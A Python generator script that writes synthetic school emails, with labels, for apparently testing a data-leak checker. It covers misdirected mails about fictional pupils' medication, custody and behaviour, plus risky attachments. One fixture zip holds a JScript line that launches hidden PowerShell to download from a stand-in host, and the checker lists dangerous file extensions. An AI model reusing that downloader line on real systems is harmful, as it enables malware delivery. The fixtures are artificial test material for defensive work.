secretariaat""" + quote("Hallo, in bijlage het formulier voor Lore, we geven toestemming voor website en smartschool maar niet instagram. Mvg Bart Heylen",
                        'Op 10/09/2024 om 20:31 schreef Bart Heylen <heylen.bart@proximus.be>:'),
    cte='qp', rules=[], about=['lore'], note='photo permission that was given, confirmed to the pupil\'s own father', tags=['reply'])

add('opstapplaats-sami', ST['bus'], [par('sami')], 'Nieuwe opstapplaats vanaf maandag',
    """Beste mevrouw Haddad,

Zoals gevraagd stapt Sami vanaf maandag 18 november op aan de halte Kerkstraat (aan de bakker) in plaats van aan uw huis. De bus komt daar rond 7u35.
's Avonds wordt hij aan dezelfde halte afgezet, rond 16u15.

Met vriendelijke groeten,
Marc Lemmens""",
    kind='alt', cte='qp', rules=[], about=['sami'], note='transport change without reasons, to the pupil\'s own mother')

add('farm-trip-rainboots-en', ST['joke'], [par('liam')], 'Farm trip Thursday',
    """Dear Ms Murphy,

Next Thursday our class goes to the children's farm. Could you give Liam his rain boots and a raincoat? We'll be back for lunch.
I'll show him the picture schedule of the trip on Wednesday so he knows what to expect.

Kind regards,
Joke""",
    cte='7bit', lang='en', rules=[], about=['liam'], note='English practical note about a class trip, to the pupil\'s own mother')

add('bus-plus-tot-nina-fr', ST['bus'], [par('nina')], 'Bus : nouvel horaire',
    """Madame Lemaire,

À partir de lundi, le bus passera 10 minutes plus tôt chez vous, vers 7h20. Le trajet change à cause des travaux à Kessel-Lo.

Cordialement,
Marc Lemmens
transport scolaire""",
    cte='qp', lang='fr', rules=[], about=['nina'], note='French bus time change without reasons, to the pupil\'s own mother')

add('stagecontract-brent', ST['jobcoach'], [par('brent')], 'Stagecontract Brent ondertekend',
    """Beste meneer Vangeel,

Het stagecontract is nu door iedereen ondertekend. Brent start op maandag 3 februari bij Garage Vandersmissen. Hij mag om 8u beginnen en is om 15u30 klaar. Werkschoenen en overall krijgt hij van de garage.
Ik ga de eerste dag mee.

Groeten,
Tom Vermeulen""",
    cte='qp', rules=[], about=['brent'], note='signed placement contract and start date, to the pupil\'s own father')

add('soup-olivia-en', ST['hanne'], [par('olivia')], 'Olivia in cooking class',
    """Dear Ms Brown,

Just a quick note: Olivia made pumpkin soup today in cooking class, all by herself (with the picture recipe). She was very proud and asked to take some home, so there is a small jar in her bag.

Best,
Hanne Jacobs
class 4D""",
    cte='qp', lang='en', rules=[], about=['olivia'], note='English positive note to the pupil\'s own mother (correct counterpart of a misdirected mail)')

add('zwemzak-ayoub-eenvoudig', ST['gert'], [par('ayoub')], 'Zwemmen morgen',
    """Dag papa van Ayoub,

Morgen is er zwemmen.
Ayoub moet zijn zwemzak meebrengen: zwembroek, handdoek, kam.

Dank u,
meester Gert""",
    cte='8bit', rules=[], about=['ayoub'], note='simple Dutch reminder about a swimming bag, to the pupil\'s own father', tags=['simple-language'])

add('oma-haalt-olivier', ST['secr'], [ST['yves']], 'Olivier vandaag',
    "Yves,\n\nOlivier (3C) wordt vandaag om 15u door zijn oma afgehaald aan het onthaal, hij moet niet op de bus. Mama heeft net gebeld. Ik heb het al aan Martine gezegd.\n\nNadia",
    cte='7bit', rules=[], about=['olivier'], note='internal note that a grandmother picks up a pupil today, no reason given')

add('prijs-zakaria', ST['hanne'], [par('zakaria')], 'Proficiat!',
    """Beste mevrouw Boukhari,

Goed nieuws: Zakaria heeft met zijn groepje de tweede prijs gewonnen in de kookwedstrijd van de scholen van Leuven! Ze maakten wraps met kip. Hij krijgt vrijdag zijn medaille op het podium in de refter. U bent welkom om 11u30.

Groetjes,
Hanne""",
    kind='alt', cte='qp', rules=[], about=['zakaria'], note='pupil won a prize, to his own mother')

add('kluisje-tuur', ST['nele'], [par('tuur')], 'kluisje Tuur',
    """Dag mevrouw Schepers,

Tuur heeft kluisje nummer 27 gekregen, in de gang bij de praktijklokalen. Hij mag een eigen hangslot meebrengen. Liefst een slot met een sleutel, dan kan u een reservesleutel aan mij geven.

Groetjes,
Nele Vanbrabant
klas 4A""",
    cte='qp', rules=[], about=['tuur'], note='locker number for a pupil; no combination or code given')

add('betaling-ontvangen-zofia', ST['boekh'], [par('zofia')], 'Betaling ontvangen',
    "Beste mevrouw Nowak,\n\nWij hebben uw betaling van € 18 voor de uitstap naar Technopolis goed ontvangen. Bedankt!\n\nVriendelijke groeten,\nVeerle Hendrickx\nboekhouding",
    charset='windows-1252', cte='8bit', rules=[], about=['zofia'], note='payment received for a trip; nothing unpaid', tags=['cp1252'])

add('gsm-dawid-klas', ST['an'], [par('dawid')], 'gsm van Dawid / telefon Dawida',
    """Dag mevrouw Kowalska,

Dawid heeft zijn gsm in de klas laten liggen. Geen probleem: de gsm ligt in de kast bij juf An. Morgen krijgt hij hem terug.

Dawid zostawił telefon w klasie. Telefon jest w szafie u pani An. Jutro go dostanie.

Groetjes,
juf An""",
    cte='base64', rules=[], about=['dawid'], note='forgotten phone, simple Dutch with Polish line, to the pupil\'s own mother', tags=['simple-language', 'translated-pl'])

add('stage-verlengd-hatice', ST['jobcoach'], [par('hatice')], 'Goed nieuws over de stage',
    """Beste meneer Yilmaz,

Woonzorgcentrum Ter Meren is heel tevreden over Hatice. Ze mag haar stage verlengen tot de paasvakantie, altijd op maandag en dinsdag. Ze helpt in de cafetaria en bij de activiteiten met de bewoners.
Hatice was er zelf heel blij mee.

Met vriendelijke groeten,
Tom Vermeulen""",
    cte='qp', rules=[], about=['hatice'], note='placement extended, to the pupil\'s own father')

add('turnzak-lars', ST['jelle'], [par('lars')], 'turnzak Lars',
    "Dag mevrouw Vos,\n\nDe turnzak van Lars lag nog op de bus. Hij hangt aan zijn kapstok in de klas, maar ik denk dat de turnpantoffels al een week nat zijn :) Misschien eens meegeven om te wassen?\n\nGroetjes,\nmeester Jelle",
    cte='qp', rules=[], about=['lars'], note='gym bag left on the bus, to the pupil\'s own mother (correct counterpart of a misdirected mail)')

add('stage-yasmina-despil', ST['jobcoach'], [par('yasmina4')], 'Eerste stagedag Yasmina',
    """Beste mevrouw Benali,

Yasmina heeft vandaag haar eerste stagedag gedaan in Tweedekansenwinkel De Spil. Ze heeft kleren gesorteerd en aan de kassa meegekeken. De verantwoordelijke vond dat ze heel vriendelijk was met de klanten.
Volgende week dinsdag gaat ze opnieuw, zelfde uur.

Groeten,
Tom Vermeulen
jobcoach""",
    cte='qp', rules=[], about=['yasmina4'], note='first placement day, to the pupil\'s own mother (correct counterpart of a misdirected mail)')

add('jas-nour', ST['bram'], [par('nour')], 'jas van Nour',
    "Dag meneer El Amrani,\n\nNour heeft haar jas op school vergeten. Ze ligt bij de verloren voorwerpen aan het onthaal. Ze kan ze morgen na de bus ophalen.\n\nGroeten,\nBram Cuyvers",
    cte='8bit', rules=[], about=['nour'], note='forgotten coat, to the pupil\'s own father (correct counterpart of a misdirected mail)')


# ==============================================================================================
# F. MISDIRECTED (12): about pupil X, addressed only to the parent of another pupil Y
# ==============================================================================================
add('lars-bus-naar-verkeerde-peeters', ST['jelle'], [par('sien')], 'Lars vanmorgen op de bus',
    """Beste mevrouw Peeters,

Ik wil u even laten weten hoe het vanmorgen ging met Lars. Op de bus is hij helemaal ontploft toen zijn vaste plaats bezet was. Hij heeft geroepen, tegen de zetels geschopt en een klasgenoot aan de haren getrokken. De busbegeleidster heeft hem vooraan gezet. In de klas had hij nog een uur nodig om tot rust te komen, hij wilde niet praten.

Was er thuis gisteren of vanmorgen iets anders dan anders? Dat helpt ons om het te begrijpen.

Groeten,
Jelle Stroobants
klas 3B""",
    cte='qp', rules=['sensitive'], cats=['psychosocial'], about=['lars'], mis=True,
    note='autocomplete on the surname Peeters: mail about Lars (3B) went to the mother of Sien Peeters (5D) only')

add('stage-yasmina-naar-1b', ST['jobcoach'], [par('yasmina1')], 'Eerste stagedag Yasmina',
    """Beste mevrouw,

Yasmina heeft vandaag haar eerste stagedag in Tweedekansenwinkel De Spil gedaan. Ze heeft kleren op de rekken gehangen en prijskaartjes gemaakt. Ze was wat stil, maar de verantwoordelijke vond het een goede start.
Vanaf volgende week gaat ze op dinsdag en donderdag, samen met haar klasgenote uit 4A.

Groeten,
Tom Vermeulen
jobcoach""",
    cte='qp', rules=[], about=['yasmina4'], mis=True,
    note='two pupils named Yasmina: placement news about Yasmina of 4A sent to the mother of Yasmina in 1B (a 12-year-old without placement)')

add('re-brooddoos-maar-kiano', ST['ruth'], [par('robbe')], 'RE: brooddoos Robbe',
    """Dag Grace,

Kiano heeft vanmiddag zijn pilletje weer uitgespuwd, ik vond het onder zijn bord. Hij heeft dus vandaag zijn middagdosis niet gehad. Hij was in de namiddag erg onrustig en liep steeds rond in de klas.
Kan u aan de dokter vragen of het ook als siroop bestaat?

Groetjes,
juf Ruth""" + quote("""Dag juf, de brooddoos van Robbe is niet mee naar huis gekomen. Is ze misschien nog in de klas? Het is een rode met een deksel van Paw Patrol.
Groetjes Ellen""", 'Op 3 okt. 2024 om 19:05 schreef Ellen Verstraeten <ellen.verstraeten@telenet.be>:'),
    cte='qp', rules=['sensitive'], cats=['medical'], about=['kiano'], mis=True,
    note="reply in the wrong thread: news about Kiano's medication for his mother went to Robbe's mother (same class)", tags=['reply'])

add('buslijst-jana-naar-ouali', ST['bus'], [par('ilias')], 'wijziging bus vanaf maandag',
    """Beste mevrouw Ouali,

Hieronder de wijziging voor de bus vanaf maandag:

Jana V. (1D): vanaf maandag 25/11 wordt ze 's morgens opgehaald en 's avonds afgezet bij papa in Wilsele (Aarschotsesteenweg). Volgens de beslissing van de rechter blijft ze voorlopig bij papa en heeft mama geen bezoekrecht. Mama mag Jana niet meenemen aan de bus; als ze er staat, de school bellen.

Met vriendelijke groeten,
Marc Lemmens
leerlingenvervoer""",
    cte='8bit', rules=['sensitive'], cats=['family'], about=['jana'], mis=True,
    note="wrong paragraph pasted from the bus list: custody-based transport change of Jana (1D) sent to the mother of Ilias (same bus)")

add('puffer-mila-verkeerde-stefanie', ST['bram'], [par('finn', 2)], 'Mila turnles',
    """Dag Stefanie,

Mila heeft vandaag na de turnles twee keer haar puffer nodig gehad, ze was erg kortademig en had een fluitend geluid bij het ademen. Daarna ging het beter. Ze heeft de rest van de dag niet meer buiten gespeeld.
Misschien goed om het aan de huisarts te vertellen? De puffer is bijna leeg, kan u een nieuwe meegeven?

Groetjes,
Bram
klas 2B""",
    cte='qp', rules=['sensitive'], cats=['medical'], about=['mila'], mis=True,
    note="autocomplete on the first name Stefanie: asthma episode of Mila (2B) sent to the step-mother of Finn (6A), another family's co-parent")

add('stage-bilal-naar-el-amrani-2d', ST['jobcoach'], [par('nour')], 'Stage bij Het Korenaar',
    """Beste meneer El Amrani,

Helaas moet ik u laten weten dat Bakkerij Het Korenaar de stage van Bilal stopzet. Hij heeft deze week twee keer de bakker uitgescholden toen die hem een opmerking gaf, en vrijdag heeft hij een plaat met broodjes op de grond gegooid en is hij weggelopen. Ik vond hem een uur later aan het station.
Ik zoek samen met de school een andere plaats, maar eerst willen we met u en Bilal praten. Past woensdag om 14u?

Met vriendelijke groeten,
Tom Vermeulen
jobcoach""",
    kind='alt', cte='qp', rules=['sensitive'], cats=['psychosocial'], about=['bilal'], mis=True,
    note='autocomplete on the surname El Amrani: end of the placement of Bilal (6C) for behaviour, sent to the father of Nour (2D)')

add('re-zwemmen-ihp-md', ST['yves'], [par('arne')], 'RE: zwemmen donderdag',
    """Ilse,

Hierbij de aanpassingen voor het handelingsplan van M.D. (3C), zoals besproken:
- time-out: niet meer na de middag, dan gaat hij naar de ergo (zintuiglijk programma)
- zwemmen voorlopig niet, te veel prikkels in de kleedkamer
- medicatie: de psychiater bekijkt in december een aanpassing, mama brengt het attest
- logo: werken rond "stop" zeggen in plaats van gooien

Kan jij het in het LVS zetten?
Yves""" + quote("""Dag meester Yves,
Arne heeft donderdag geen zwemgerief nodig toch? Het stond niet in de agenda.
Groetjes Marleen""", 'Op 4 nov. 2024 om 20:14 schreef Marleen Wuyts <marleen.wuyts@telenet.be>:'),
    cte='qp', rules=['sensitive'], cats=['care', 'medical'], about=['maxime'], mis=True,
    note="teacher meant to send care-plan changes of M.D. (3C) to a colleague but replied in the thread of Arne's mother", tags=['reply'])

add('rekening-emre-naar-kaya-1a', ST['boekh'], [par('elif')], 'Schoolrekening Emre - afbetalingsplan',
    """Beste mevrouw Kaya,

Zoals afgesproken met u en de maatschappelijk werker van het OCMW betaalt u de openstaande schoolrekening van Emre (4C), in totaal € 312,40, in vier keer:
- 15 december: € 78,10
- 15 januari: € 78,10
- 15 februari: € 78,10
- 15 maart: € 78,10

De rest van dit schooljaar stuurt het OCMW de rekening voor het middagmaal rechtstreeks door.

Vriendelijke groeten,
Veerle Hendrickx
boekhouding""",
    charset='windows-1252', cte='8bit', rules=['sensitive'], cats=['financial'], about=['emre'], mis=True,
    note="autocomplete on the surname Kaya: payment plan for the unpaid bill of Emre (4C) sent to the father of Elif Kaya (1A)", tags=['cp1252'])

noah_txt = """Verslag kinesitherapie - Noah Lambrechts (5C)

Bij het screenen werd een scoliose van 18 graden vastgesteld (RX 02/10). De orthopedist heeft een nachtkorset voorgeschreven.
Op school: oefeningen 2x per week, geen zware dozen tillen in de praktijkles, stoel met rugsteun.
Controle bij de orthopedist in maart.
"""
add('kineverslag-noah-naar-andere-noah', ST['kine'], [par('noahV')], 'Verslag kine Noah',
    """Beste mevrouw Lambrechts,

In bijlage het verslag van de kine van Noah, zoals beloofd. Als u vragen hebt over het korset of de oefeningen, mag u mij altijd mailen.

Vriendelijke groeten,
Pieter Janssens
kinesitherapeut""",
    attach=[('verslag_kine_Noah.txt', noah_txt, 'text/plain')], kind='alt', cte='qp',
    rules=['sensitive'], cats=['medical', 'care'], about=['noahL'], mis=True,
    note='two pupils called Noah: physio report of Noah Lambrechts (5C) sent to the mother of Noah Vermeiren (3A)', tags=['attachment-txt'])

sami_jpg = b'\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00' + hashlib.sha256(b'sami').digest() * 60 + b'\xff\xd9'
add('foto-stage-sami-naar-leemans', ST['gert'], [par('kobe')], 'Sami aan het werk!',
    """Dag mevrouw Haddad,

Vandaag waren we met de groep bij de groendienst. Sami heeft de hele voormiddag bladeren geblazen en hij vond het fantastisch. In bijlage een foto, hij wilde dat u die zeker zag!

Groetjes,
meester Gert
klas 5B""",
    attach=[('IMG_2231.jpg', sami_jpg, 'image/jpeg')], cte='qp', rules=[], about=['sami'], mis=True,
    note='positive placement news and photo of Sami (5B) sent to the mother of Kobe, next name in the class list')

add('olivia-difficult-to-olivier-mum', ST['hanne'], [par('olivier')], 'Olivia this afternoon',
    """Dear Ms Brown,

I'm sorry to tell you that Olivia had a very difficult afternoon. When the supply teacher came in, she hid under the table, screamed for about forty minutes and bit her own hand. We took her to the quiet room and she calmed down before the bus. Her hand is a bit bruised, we put ice on it.

Could we talk about what helps her when there are unexpected changes? I'm available Thursday after 3.30.

Kind regards,
Hanne Jacobs
class 4D""",
    kind='html', cte='base64', lang='en', rules=['sensitive'], cats=['psychosocial'], about=['olivia'], mis=True,
    note='autocomplete on "Oli": English mail about a crisis of Olivia (4D) sent to the mother of Olivier (3C)')

add('bus-rayan-naar-nijs', ST['bus'], [par('lucas')], 'Bus: nieuwe halte',
    """Beste mevrouw,

Vanaf maandag stapt Rayan op aan de halte Kerkstraat in plaats van aan het huis, om 7u40. 's Avonds wordt hij daar ook afgezet.

Groeten,
Marc Lemmens""",
    cte='7bit', rules=[], about=['rayan'], mis=True,
    note='bus list row copied wrongly: stop change of Rayan (1C) sent to the mother of Lucas (same class, same bus)')


# ==============================================================================================
# G. OTHER: attachments, bcc, private account, personal data (6)
# ==============================================================================================
bus_xlsm = office_macro('xlsm', 'Busplanning De Linde 2e trimester: lijn 1-8, haltes, uren. Macro: haltes sorteren.')
add('busplanning-xlsm', ST['bus'], [EXT['busco']], 'busplanning 2e trimester',
    """Dag Kathleen,

In bijlage de planning voor het tweede trimester. Ik heb de knop "sorteer haltes" erin gestoken, dus macro's inschakelen bij het openen. Lijn 4 en 7 zijn gewijzigd (zie geel).

Groeten,
Marc""",
    attach=[('Busplanning_DeLinde_T2.xlsm', bus_xlsm, 'application/vnd.ms-excel.sheet.macroEnabled.12')], cte='qp',
    rules=['attachment'], note='macro-enabled Excel bus planning sent to the bus company', tags=['attachment-xlsm'])

add('lijn3-ouders-zichtbaar', ST['bus'], [par('elias'), par('luna'), par('warre'), par('seppe')], 'Lijn 3 morgen later',
    """Beste ouders,

Morgen (dinsdag) vertrekt de bus van lijn 3 's morgens 15 minuten later, omdat de chauffeur een technische controle moet laten doen. Uw kind wordt dus ongeveer een kwartier later opgehaald dan gewoonlijk.

Vragen? Bel gerust naar de gsm van de busdienst: 0478 21 90 33.

Marc Lemmens""",
    cte='qp', rules=['bcc', 'personal_data'], note='notice to the parents of one bus line with all their addresses visible in To; transport mobile number')

add('schedule-orbis-private-en', PRIV['jobcoach'], [('Mark Thompson', 'mark.thompson@orbisfoods.be')], 'Jarne - schedule after the holidays',
    """Hi Mark,

Writing from my personal address as our school mail is down today.
After the Christmas holidays Jarne will come on Tuesdays and Thursdays, 8:00 to 15:00. On the first Tuesday I'll be there at 8 to check the new tasks with the team leader.

Thanks again for the good cooperation,
Tom Vermeulen
Job coach, campus De Linde""",
    cte='7bit', lang='en', rules=['private_account'], about=['jarne'], note='job coach writes school business to a placement employer from his private outlook.com address')

setup_zip = zip_bytes([('Klankbord_setup/setup.exe', fake_exe('klankbord')), ('Klankbord_setup/LEESMIJ.txt', 'Dubbelklik op setup.exe en volg de stappen.')])
add('klankbord-installatie-zip', ST['ict'], [ST['logo']], 'installatie Klankbord',
    """Hoi Sarah,

Hier de installatie van Klankbord voor de laptop in het logolokaal. Uitpakken en setup.exe uitvoeren. Als Windows vraagt of je wijzigingen wil toestaan: ja.

Kristof""",
    attach=[('Klankbord_setup.zip', setup_zip, 'application/zip')], cte='qp',
    rules=['attachment'], note='zip archive containing an executable installer for a therapy app', tags=['attachment-zip-exe'])

phish_zip = zip_bytes([('Factuur_2024-1187.pdf.js', "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c \"iwr hxxp://example.invalid/a\"');")])
add('fw-verdachte-factuur-privacy', ST['secr'], [ST['privacy']], 'TR: Factuur 2024-1187 - dringend',
    """Hallo,

Deze mail kwam vanmorgen binnen op het secretariaat, zogezegd van de busmaatschappij. Het adres klopt niet (vanroey-autocars.com in plaats van autocars-vanroey.be) en ze vragen om de bijlage dringend te openen. Ik heb niets geopend. Ik stuur ze door zoals gevraagd in de opleiding.

Nadia Bouzid
secretariaat campus De Linde""" + fwd_inline('Boekhouding Van Roey <facturatie@vanroey-autocars.com>', 'dinsdag 19 november 2024 06:12',
                                             'Factuur 2024-1187 - dringend', 'secretariaat@sintpieterscollege.be',
                                             "Geachte klant,\n\nIn bijlage uw factuur. Gelieve binnen 48 uur te betalen om extra kosten te vermijden.\n\nMet vriendelijke groet", style='outlook'),
    attach=[('Factuur_2024-1187.zip', phish_zip, 'application/zip')], cte='qp',
    rules=['attachment'], note='suspicious invoice forwarded to the DPO with the zip containing a script', tags=['fwd', 'attachment-zip-js'])

HATICE_RRN = rrn(5, 3, 21, 214)
add('dimona-hatice-termeren', ST['jobcoach'], [EXT['termeren']], 'gegevens stagiaire Hatice Yilmaz',
    f"""Dag Sofie,

Voor de registratie van de stage vroeg jullie personeelsdienst nog deze gegevens:

Naam: Hatice Yilmaz
Geboortedatum: 21/03/2005
Rijksregisternummer: {HATICE_RRN}
School: Sint-Pieterscollege campus De Linde, OV3 - opleiding logistiek helper in de zorg
Periode: 13/01 tot 11/04, maandag en dinsdag

De stageovereenkomst volgt met de post.

Groeten,
Tom Vermeulen
jobcoach""",
    cte='qp', rules=['personal_data'], about=['hatice'], note='date of birth and national register number of a pupil sent to the placement employer')


# ==============================================================================================
# dates for mails whose text refers to a moment in the school year
# ==============================================================================================
D = dt.datetime
DATES = {
    'achterpoort-chauffeurs': D(2024, 10, 4, 16, 40), 'codes-werken-parking': D(2024, 10, 4, 17, 12),
    'fw-ritplanner': D(2024, 9, 5, 8, 12), 're-code-logo-ipad': D(2024, 10, 1, 10, 31),
    'fw-afdrukcode': D(2024, 9, 16, 19, 45), 're-bitlocker': D(2024, 10, 16, 8, 20),
    're-wifi-password': D(2024, 10, 7, 9, 58), 'fw-praktijkfiches-prive': D(2024, 10, 11, 20, 15),
    'teams-planning-therapie': D(2024, 11, 12, 14, 3), 'zoom-infoavond-stage': D(2024, 11, 6, 11, 0),
    'gastenwifi-prikbord': D(2024, 10, 22, 8, 5), 'fw-registratie-zorgplatform': D(2024, 10, 14, 11, 40),
    'badge-no-code-en': D(2024, 9, 12, 15, 30), 'rekening-bedrag-mededeling': D(2024, 10, 24, 10, 0),
    'verificatiecode-uitleg': D(2024, 11, 18, 9, 0), 'kopieerkaart-pincode-kwijt': D(2024, 11, 6, 12, 20),
    'lijn4-rit14-bus317': D(2024, 10, 17, 10, 0), 'bestelling-verzwaringsdekens': D(2024, 10, 9, 13, 22),
    'studiedag-ouders-in-to': D(2024, 11, 4, 12, 10), 'herinnering-schoolrekening-allen': D(2024, 11, 25, 9, 30),
    'hpv-vaccinatie-clb': D(2024, 10, 21, 10, 15), 'kerstvakantie-bussen-ar': D(2024, 12, 12, 11, 0),
    'schoolfeest-prikkelarm': D(2025, 5, 5, 9, 0), 'sneeuw-bussen': D(2025, 1, 8, 14, 30),
    'uitleg-schoolkosten-tahiri': D(2024, 9, 26, 9, 12), 'wat-is-een-handelingsplan': D(2024, 11, 20, 10, 0),
    'stagereglement-6e-jaar': D(2024, 9, 20, 13, 0), 'brief-medicatie-op-school': D(2024, 9, 4, 9, 0),
    'afspraken-leerlingenvervoer': D(2024, 9, 3, 8, 30), 'transport-regles-fr': D(2024, 9, 3, 8, 45),
    'clb-info-nieuwe-ouders': D(2024, 9, 10, 10, 0), 'fotobeleid': D(2024, 9, 9, 15, 0),
    'ouderportaal-sterk-wachtwoord': D(2024, 9, 6, 11, 0), 'privacyverklaring': D(2024, 9, 17, 9, 0),
    'mdo-3c-verslag': D(2024, 11, 20, 16, 40), 'fw-mats-apart': D(2024, 10, 7, 8, 30),
    'fw-mdo-robbe-naar-thuis': D(2024, 11, 12, 20, 40), 'ines-peur-bus-fr': D(2024, 11, 13, 10, 5),
    'scan-schriftje-luna': D(2024, 11, 5, 8, 15), 'aaron-overstap-dagcentrum': D(2024, 11, 22, 12, 30),
    'logoverslagen-zip-clb': D(2024, 11, 25, 13, 2), 'ww-zip-logoverslagen': D(2024, 11, 25, 13, 6),
    'logoverslag-zofia-pl': D(2024, 12, 10, 14, 0), 'opstapplaats-sami': D(2024, 11, 13, 11, 0),
    'stagecontract-brent': D(2025, 1, 20, 16, 0), 'fototoestemming-lore': D(2024, 9, 11, 9, 20),
    'stage-verlengd-hatice': D(2025, 1, 10, 15, 10), 'dimona-hatice-termeren': D(2025, 1, 6, 9, 40),
    'kluisje-tuur': D(2024, 9, 6, 12, 0), 'buslijst-jana-naar-ouali': D(2024, 11, 20, 15, 50),
    're-brooddoos-maar-kiano': D(2024, 10, 8, 15, 20), 're-zwemmen-ihp-md': D(2024, 11, 7, 16, 45),
    'rekening-emre-naar-kaya-1a': D(2024, 12, 2, 10, 30), 'kineverslag-noah-naar-andere-noah': D(2024, 10, 15, 13, 10),
    'schedule-orbis-private-en': D(2024, 12, 18, 19, 5), 'fw-verdachte-factuur-privacy': D(2024, 11, 19, 8, 30),
    'busplanning-xlsm': D(2024, 12, 16, 11, 0), 'welcome-physio-intern': D(2024, 9, 27, 14, 0),
    'timeout-code-interim': D(2024, 9, 13, 17, 30), 'accounts-nieuwe-ergo': D(2024, 9, 13, 11, 5),
    'script-tschijf': D(2024, 9, 23, 8, 10), 'account-busbegeleider-freddy': D(2024, 9, 19, 10, 0),
    'fw-app-lijn4': D(2024, 9, 27, 16, 0), 'wifi-personeel-gewijzigd': D(2024, 10, 2, 12, 45),
    'luizen-2b': D(2024, 10, 10, 15, 0), 'farm-trip-rainboots-en': D(2024, 10, 3, 15, 40),
    'uitstap-3b-groep-in-to': D(2024, 10, 3, 16, 0), 'lena-zwanger-stage': D(2024, 11, 28, 17, 20),
    'gsm-afspraken-leerlingen': D(2024, 9, 5, 12, 0), 'whatsapp-afspraken': D(2024, 10, 18, 10, 0),
    'stage-verzekering-ongeval': D(2024, 11, 21, 9, 0), 'badgecode-orbis-jarne': D(2024, 9, 16, 15, 45),
    'schedule-orbis': None,
}
for m in MAILS:
    if DATES.get(m['slug']):
        m['date'] = DATES[m['slug']]

# ==============================================================================================
# output
# ==============================================================================================
SCHOOL_DOMAINS = ('sintpieterscollege.be', 'ksleuven.be')
GROUP_RE = re.compile(r'^(ouders|ouders-\w+|leerlingen|personeel|klas-\w+|vakgroep-[\w-]+)@')
PRIVATE_DOMAINS = ('gmail.com', 'hotmail.com', 'outlook.com', 'telenet.be', 'skynet.be', 'proximus.be', 'yahoo.com')
DANGEROUS = ('.exe', '.bat', '.cmd', '.js', '.vbs', '.ps1', '.scr', '.docm', '.xlsm', '.pptm', '.jar', '.msi')


def is_school(a):
    d = a.split('@')[1].lower()
    return any(d == s or d.endswith('.' + s) for s in SCHOOL_DOMAINS)


def selfcheck(m, raw):
    probs = []
    rules = m.get('rules', [])
    vis = [addr_of(a) for a in m['to']] + [addr_of(a) for a in m.get('cc', [])]
    ext = [a for a in vis if not is_school(a)]
    grp = [a for a in vis if GROUP_RE.match(a) and is_school(a)]
    if (len(ext) > 1 or bool(grp)) != ('bcc' in rules):
        probs.append(f'bcc? ext={ext} grp={grp}')
    frm = addr_of(m['frm'])
    privs = {a[1] for a in PRIV.values()}
    rc = vis + [addr_of(a) for a in m.get('bcc', [])]
    pa = frm in privs or any(a in privs for a in rc)
    if pa != ('private_account' in rules):
        probs.append('private_account?')
    att = False
    for name, data, ctype in m.get('attach', []):
        if name.lower().endswith(DANGEROUS):
            att = True
        if name.lower().endswith('.zip'):
            with zipfile.ZipFile(io.BytesIO(data)) as z:
                att = att or any(n.lower().endswith(DANGEROUS) for n in z.namelist())
    if att != ('attachment' in rules):
        probs.append('attachment?')
    text = m['body'] + ''.join(d for _, d, _ in m.get('attach', []) if isinstance(d, str)) + \
        (m['inner']['body'] if m.get('inner') else '')
    pd = bool(re.search(r'(\+32|\b0)\s?\d{1,3}[ ./]?\d{2}[ ./]?\d{2}[ ./]?\d{2}\b', text)) or 'BE' in text and \
        bool(re.search(r'\bBE\d{2}( ?\d{4}){3}\b', text)) or bool(re.search(r'\d{2}\.\d{2}\.\d{2}-\d{3}\.\d{2}', text)) \
        or 'Geboortedatum' in text
    if pd != ('personal_data' in rules):
        probs.append('personal_data?')
    # misdirection
    if m.get('about'):
        parents_about = set()
        for k in m['about']:
            parents_about |= {PUP[k]['p1'], PUP[k]['p2']} - {''}
        allpar = {p['p1'] for p in ROSTER} | {p['p2'] for p in ROSTER}
        par_rc = [a for a in rc if a in allpar]
        if par_rc:
            mis = all(a not in parents_about for a in par_rc)
            if mis != bool(m.get('mis')):
                probs.append(f'misdirected? {par_rc}')
    if b'\n' in raw.replace(b'\r\n', b''):
        probs.append('bare LF')
    if ('sensitive' in rules) != bool(m.get('cats')):
        probs.append('cats?')
    return probs


def yq(s):
    return json.dumps(s, ensure_ascii=False)


def main():
    write_roster()
    order = list(range(len(MAILS)))
    random.Random(23).shuffle(order)
    labels = []
    seen = set()
    for n, idx in enumerate(order, 1):
        m = MAILS[idx]
        assert m['slug'] not in seen, m['slug']
        seen.add(m['slug'])
        fname = f"{n:03d}-{m['slug']}.eml"
        msg = build_message(n, m)
        raw = to_bytes(msg)
        with open(os.path.join(HERE, fname), 'wb') as fh:
            fh.write(raw)
        probs = selfcheck(m, raw)
        if probs:
            print('CHECK', fname, probs)
        fmt = [m.get('kind', 'plain')]
        if m.get('kind', 'plain') == 'plain' or m.get('kind') == 'html':
            fmt.append(m.get('cte', 'qp'))
        if m.get('charset', 'utf-8') != 'utf-8' and 'cp1252' not in m.get('tags', []):
            fmt.append(m['charset'])
        if m.get('attach'):
            fmt.append('multipart-mixed')
        if m.get('inner'):
            fmt.append('message-rfc822')
        fmt += [t for t in m.get('tags', []) if t not in fmt]
        rc = [addr_of(a) for a in m['to']] + [addr_of(a) for a in m.get('cc', [])] + [addr_of(a) for a in m.get('bcc', [])]
        lines = [f"{fname}:",
                 f"  rules: [{', '.join(m.get('rules', []))}]"]
        if 'sensitive' in m.get('rules', []):
            lines.append(f"  categories: {{sensitive: [{', '.join(m['cats'])}]}}")
        lines += [f"  mail_from: {addr_of(m['frm'])}",
                  f"  rcpt: [{', '.join(rc)}]",
                  f"  about: [{', '.join(pid(k) for k in m.get('about', []))}]",
                  f"  misdirected: {'true' if m.get('mis') else 'false'}",
                  f"  note: {yq(m['note'])}",
                  f"  lang: {m.get('lang', 'nl')}",
                  f"  format: [{', '.join(fmt)}]"]
        labels.append("\n".join(lines))
    with open(os.path.join(HERE, 'labels.yaml'), 'w', encoding='utf-8') as fh:
        fh.write("# batch23 - Sint-Pieterscollege campus De Linde (BuSO OV3/OV4, type 9 + basisaanbod), Kessel-Lo\n")
        fh.write("# generated by make.py\n\n")
        fh.write("\n\n".join(labels) + "\n")
    print(len(order), 'mails written')


if __name__ == '__main__':
    main()
